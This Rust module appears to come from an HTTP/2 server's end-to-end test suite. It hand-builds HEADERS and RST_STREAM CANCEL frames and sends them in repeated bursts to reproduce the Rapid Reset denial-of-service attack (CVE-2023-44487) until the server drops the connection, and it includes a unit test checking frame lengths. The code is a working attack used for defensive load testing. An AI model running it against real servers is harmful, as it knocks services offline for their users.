//! Rapid reset (CVE-2023-44487): requests that are reset as soon as they are sent. The frames are
//! written by hand, because h2 does not send a request that is reset before it has left.

use std::{
    future::poll_fn,
    io,
    pin::Pin,
    task::{Context, Poll},
};

use countersign_front::http2::error::Http2ErrorCode;
use tokio::{
    io::{AsyncRead, AsyncWrite, AsyncWriteExt as _, ReadBuf},
    task::yield_now,
};

use crate::e2e::protocol::ResetStorm;

/// Connection preface (RFC 9113 section 3.4), with an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Sends and resets requests on one connection until the server closes it.
pub(super) async fn run_connection(
    mut stream: impl AsyncRead + AsyncWrite + Unpin,
    storm: &ResetStorm,
) {
    // The server has closed the connection, with one error or another. The caller connects again.
    let _ignored = send_resets(&mut stream, storm).await;
}

async fn send_resets(
    stream: &mut (impl AsyncRead + AsyncWrite + Unpin),
    storm: &ResetStorm,
) -> io::Result<()> {
    stream.write_all(PREFACE).await?;
    let mut next = 1;
    let mut bytes = Vec::new();
    while next < i32::MAX.unsigned_abs() - 2 * ResetStorm::BURST {
        bytes.clear();
        for _ in 0..ResetStorm::BURST {
            push_request(&mut bytes, next);
            next += 2;
        }
        stream.write_all(&bytes).await?;
        stream.flush().await?;
        storm.reset_burst();
        // Read the arrived bytes, so that the server is not blocked in writing.
        poll_fn(|context| poll_discard(stream, context)).await?;
        yield_now().await;
    }
    Ok(())
}

/// Appends a request for `/auth` without a token, and its reset: HEADERS, then RST_STREAM with
/// CANCEL. The field section uses the static table (RFC 7541 appendix A) and literals without
/// indexing, so that the server has nothing to remember.
fn push_request(bytes: &mut Vec<u8>, stream: u32) {
    const HEAD: &[u8; 16] = b"\x82\x86\x04\x05/auth\x01\x05bench";
    const END_STREAM_AND_HEADERS: u8 = 0x05;
    bytes.extend([0, 0, 16, 0x01, END_STREAM_AND_HEADERS]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(HEAD);
    bytes.extend([0, 0, 4, 0x03, 0]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(Http2ErrorCode::Cancel.number().to_be_bytes());
}

fn poll_discard(
    stream: &mut (impl AsyncRead + Unpin),
    context: &mut Context<'_>,
) -> Poll<io::Result<()>> {
    let mut bytes = [0; 4096];
    loop {
        let mut buffer = ReadBuf::new(&mut bytes);
        match Pin::new(&mut *stream).poll_read(context, &mut buffer) {
            Poll::Ready(Ok(())) if buffer.filled().is_empty() => {
                return Poll::Ready(Err(io::ErrorKind::UnexpectedEof.into()));
            }
            Poll::Ready(Ok(())) => {}
            Poll::Ready(Err(error)) => return Poll::Ready(Err(error)),
            // Do not wait for data.
            Poll::Pending => return Poll::Ready(Ok(())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frame_lengths_match_their_headers() {
        let mut bytes = Vec::new();
        push_request(&mut bytes, 5);
        let (head, reset) = bytes.split_at(9 + 16);
        assert_eq!((head[2], head.len()), (16, 25));
        assert_eq!((reset[2], reset.len()), (4, 13));
        assert_eq!((&head[5..9], &reset[5..9]), (&[0, 0, 0, 5][..], &[0, 0, 0, 5][..]));
    }
}
